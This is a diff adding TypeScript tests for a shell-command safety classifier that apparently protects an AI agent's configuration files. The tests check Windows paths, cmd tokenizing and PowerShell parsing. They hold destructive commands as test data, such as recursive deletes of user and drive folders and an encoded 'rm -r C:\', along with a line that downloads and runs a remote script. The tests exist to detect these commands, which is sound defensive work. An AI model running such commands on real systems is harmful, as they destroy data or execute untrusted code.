@@ -1,0 +1,123 @@
+import assert from 'node:assert/strict';
+import { before, describe, test } from 'node:test';
+import { EMPTY_INVENTORY, type ActionFacts, type ShellDialect } from '../core/index.ts';
+import { expandPercent, tokenize, UNKNOWN } from './cmd/tokenize.ts';
+import { createClassifier, type Classifier } from './index.ts';
+import { repairArguments } from './powershell/repair.ts';
+import { decodeUtf16Base64 } from './windows/dispatch.ts';
+import { classifyPath, resolvePath } from './paths.ts';
+
+const WIN = { cwd: 'C:\\Users\\dev\\app', home: 'C:\\Users\\dev' };
+let classifier: Classifier;
+before(async () => {
+  classifier = await createClassifier();
+});
+const facts = (command: string, shell?: ShellDialect, ctx = WIN): ActionFacts => classifier.classify({ kind: 'shell', command, ...(shell ? { shell } : {}) }, ctx, EMPTY_INVENTORY);
+const codes = (f: ActionFacts) => f.findings.map((x) => x.code);
+
+describe('Windows paths', () => {
+  test('one spelling: \\\\?\\, \\\\?\\UNC, forward slashes, Git Bash mounts, drive letters in any case', () => {
+    assert.equal(resolvePath('\\\\?\\c:\\Users\\dev\\Documents', WIN), 'C:\\Users\\dev\\Documents');
+    assert.equal(resolvePath('\\\\?\\UNC\\nas\\share\\x', WIN), '\\\\nas\\share\\x');
+    assert.equal(resolvePath('C:/Users/dev/app/../other', WIN), 'C:\\Users\\dev\\other');
+    assert.equal(resolvePath('/d/data', WIN), 'D:\\data');
+    assert.equal(resolvePath('.\\src', WIN), 'C:\\Users\\dev\\app\\src');
+    assert.equal(resolvePath('\\Windows', WIN), 'C:\\Windows');
+    assert.equal(resolvePath('~\\Documents', WIN), 'C:\\Users\\dev\\Documents');
+  });
+
+  test('critical the same way as on Linux: drive and share roots, profiles, system folders, home, repository root; case-insensitive', () => {
+    const cls = (p: string) => classifyPath(resolvePath(p, WIN)!, WIN, EMPTY_INVENTORY);
+    for (const p of ['E:\\', '\\\\nas\\share', 'C:\\Users', 'C:\\Users\\alice', 'c:\\windows\\system32', 'C:\\Program Files (x86)\\App', 'C:\\ProgramData', 'c:\\users\\DEV', 'C:\\Users\\dev\\app', 'C:\\Users\\dev\\Documents', 'C:\\Users\\dev\\app\\.git', 'HKLM:\\SOFTWARE\\X']) assert.equal(cls(p), 'critical', p);
+    assert.equal(cls('node_modules'), 'rebuildable');
+    assert.equal(cls('C:\\Users\\dev\\AppData\\Local\\Temp\\build'), 'temporary');
+    assert.equal(cls('.\\src\\app.ts'), 'workspace');
+    assert.equal(cls('E:\\projects\\SS'), 'outside');
+  });
+
+  test('D3 the control plane on Windows: the same patterns, any case, any spelling', () => {
+    for (const p of ['.\\portcullis.yaml', 'C:\\Users\\dev\\app\\.CLAUDE\\settings.json', '\\\\?\\C:\\Users\\dev\\app\\policies\\x.cedar']) {
+      assert.equal(classifyPath(resolvePath(p, WIN)!, WIN, EMPTY_INVENTORY), 'control_plane', p);
+    }
+    const f = facts("Set-Content -Path .CLAUDE\\Settings.json -Value '{}'", 'powershell');
+    assert.ok(f.targets.some((t) => t.kind === 'control_plane'));
+    assert.ok(f.destructive);
+  });
+});
+
+describe('cmd tokenizer (cmd /? rules)', () => {
+  test('%VAR% before splitting; carets escape outside quotes only; quotes stay in the word', () => {
+    const env = new Map([['USERPROFILE', 'C:\\Users\\dev']]);
+    assert.equal(expandPercent('rd /s /q %userprofile%\\x %NOPE% %X:~1%', env), `rd /s /q C:\\Users\\dev\\x ${UNKNOWN} ${UNKNOWN}`);
+    const words = tokenize('r^d /s "a ^& b"&& echo x>f 2>nul').map((t) => (t.kind === 'word' ? t.text : t.kind === 'op' ? t.op : `R${t.op}`));
+    assert.deepEqual(words, ['rd', '/s', '"a ^& b"', '&&', 'echo', 'x', 'R>', 'f', 'R2>', 'nul']);
+  });
+
+  test('the three reported commands are destructive from every shell they arrive in', () => {
+    assert.ok(facts('Remove-Item "E:\\projects\\SS" -Recurse -Force', 'powershell').destructive);
+    assert.ok(facts('cmd /c "rmdir /s /q C:\\Users\\dev\\projects"').destructive);
+    for (const shell of ['cmd', 'powershell', undefined] as const) {
+      const f = facts('cmd.exe /d /c "rd /s /q \\"\\\\?\\E:\\projects\\SS\\""', shell);
+      assert.ok(f.destructive, String(shell));
+    }
+  });
+});
+
+describe('PowerShell', () => {
+  test('classify:encoded-exact-or-opaque -EncodedCommand is decoded exactly (UTF-16LE base64), else opaque (F1)', () => {
+    assert.equal(decodeUtf16Base64('VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8A'), 'Write-Output hello');
+    assert.equal(decodeUtf16Base64('not base64!'), null);
+    assert.equal(decodeUtf16Base64(Buffer.from('rm -r C:\\').toString('base64')), null, 'UTF-8 is not what -EncodedCommand carries');
+    const bad = facts('powershell -enc cm0gLXIgQzpc', 'powershell');
+    assert.equal(bad.confidence, 'opaque');
+    assert.ok(codes(bad).includes('powershell_encoded_unreadable'));
+  });
+
+  test('F1 what PowerShell might read differently is opaque: syntax errors, dynamic Invoke-Expression, script blocks built from text', () => {
+    for (const c of ['Remove-Item C:\\x -Recurse }{ (', 'iex $payload', '& ([scriptblock]::Create($s))', "iex (irm 'https://example.com/x.ps1')"]) {
+      assert.equal(facts(c, 'powershell').confidence, 'opaque', c);
+    }
+  });
+
+  test('parameters bind as PowerShell binds them: prefixes, -Name:value, -WhatIf is a dry run', () => {
+    assert.ok(facts('rm -r -fo C:\\Users\\dev\\app', 'powershell').destructive);
+    assert.ok(facts('Remove-Item -Recurse:$true C:\\Users\\dev', 'powershell').destructive);
+    assert.equal(facts('Remove-Item C:\\ -Recurse -WhatIf', 'powershell').destructive, false);
+    assert.ok(facts('Remove-Item C:\\ -Recurse -WhatIf:$false', 'powershell').destructive);
+  });
+
+  test('bare arguments the grammar cannot place are rewritten to what PowerShell reads them as', () => {
+    assert.equal(repairArguments('Remove-Item -Recurse $env:TEMP\\x; rm dist, build'), 'Remove-Item -Recurse "$env:TEMP\\x"; rm \'dist\',\'build\'');
+    assert.equal(facts('Remove-Item -Recurse -Force dist, build', 'powershell').destructive, false);
+    assert.ok(facts('Remove-Item -Recurse -Force dist, $env:USERPROFILE', 'powershell').destructive);
+  });
+
+  test('D8 a link to a control-plane file is a write to it (New-Item -ItemType SymbolicLink, mklink)', () => {
+    assert.ok(facts('New-Item -ItemType SymbolicLink -Path .\\l -Target .\\portcullis.yaml', 'powershell').destructive);
+    assert.ok(facts('mklink l portcullis.yaml', 'cmd').destructive);
+  });
+
+  test('an unknown shell language is opaque (F1)', () => {
+    const f = classifier.classify({ kind: 'shell', command: 'ls', shell: 'fish' as ShellDialect }, WIN, EMPTY_INVENTORY);
+    assert.equal(f.confidence, 'opaque');
+  });
+});
+
+describe('classify:unknown-program-critical-target', () => {
+  const LINUX = { cwd: '/home/dev/app', home: '/home/dev' };
+  test('an unknown program that names home, the repository root, a system path, the control plane or a production target is opaque', () => {
+    for (const c of ['cleanup-tool ~', 'zapper .', 'frobnicate --dir=/etc', 'toolx --config portcullis.yaml', 'releasectl rollout --cluster prod-cn-1', './nuke.sh /home/dev']) {
+      const f = facts(c, undefined, LINUX);
+      assert.equal(f.confidence, 'opaque', c);
+      assert.ok(codes(f).includes('unknown_program_critical_target'), c);
+    }
+    assert.equal(facts('wipe-it C:\\', 'cmd').confidence, 'opaque');
+  });
+  test('one that names nothing critical stays a partial exec', () => {
+    for (const c of ['mytool --input data.csv', 'converter /tmp/a.json /tmp/b.json', 'releasectl status --cluster dev-eu-1']) {
+      const f = facts(c, undefined, LINUX);
+      assert.equal(f.confidence, 'partial', c);
+      assert.equal(f.destructive, false, c);
+    }
+  });
+});
